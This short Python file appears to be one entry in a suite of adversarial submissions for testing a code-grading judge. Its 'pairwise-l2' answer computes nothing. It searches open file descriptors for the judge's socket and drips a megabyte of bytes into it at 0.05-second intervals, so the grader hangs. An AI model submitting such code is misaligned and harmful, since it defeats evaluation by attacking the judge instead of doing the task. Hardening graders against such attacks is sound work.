"""Reply to the judge a byte at a time, so that every wait is short and all of them never end."""

from attacking import Attack

DRIPS = """
import os
import stat
import time

def pairwise_l2(a, b):
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                for byte in bytes((0, 0, 9, 0)) + bytes(10**6):
                    os.write(number, bytes([byte]))
                    time.sleep(0.05)
        except OSError:
            pass
"""
ATTACK = Attack(
    answers={"pairwise-l2": DRIPS},
    no_stock="stock has no channel: check and answer share one process",
)
